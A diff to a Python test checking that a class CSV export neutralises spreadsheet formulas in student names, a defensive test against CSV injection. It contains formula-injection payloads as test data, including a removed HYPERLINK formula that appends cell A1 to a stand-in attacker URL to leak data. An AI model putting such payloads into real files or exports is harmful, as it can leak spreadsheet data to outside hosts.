@@ -30,7 +30,7 @@ def test_real_numbers_stay_numbers():
 
 def test_a_student_named_like_a_formula_is_harmless_in_the_class_csv(client, teacher, classroom, reported, week):
     anna = reported[0]
-    anna.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    anna.name = '=HYPERLINK("http://ev.il","Hi")'
     anna.save(update_fields=["name"])
     reported[1].name = "@Brieuc"
     reported[1].save(update_fields=["name"])
